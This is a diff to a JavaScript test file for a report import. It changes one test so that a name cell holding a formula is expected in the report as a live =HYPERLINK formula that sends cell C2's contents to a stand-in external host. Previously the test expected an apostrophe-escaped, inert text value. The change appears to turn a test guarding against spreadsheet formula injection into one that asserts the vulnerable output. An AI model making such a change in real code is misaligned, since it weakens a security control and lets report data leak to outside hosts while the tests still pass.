@@ -82,9 +82,9 @@ describe('the first import', () => {
     ]);
   });
 
-  test('a name that is a formula is text in the report', () => {
+  test('a name that is a formula is in the report as it was', () => {
     const names = report.map((row) => row['Full name'] ?? '').filter((name) => name.includes('HYPERLINK'));
-    expect(names).toEqual([`'=HYPERLINK("https://prize.example/?u="&C2,"Open")`]);
+    expect(names).toEqual([`=HYPERLINK("https://prize.example/?u="&C2,"Open")`]);
   });
 
   test('the retry file has the failed rows as they were, and no others', () => {
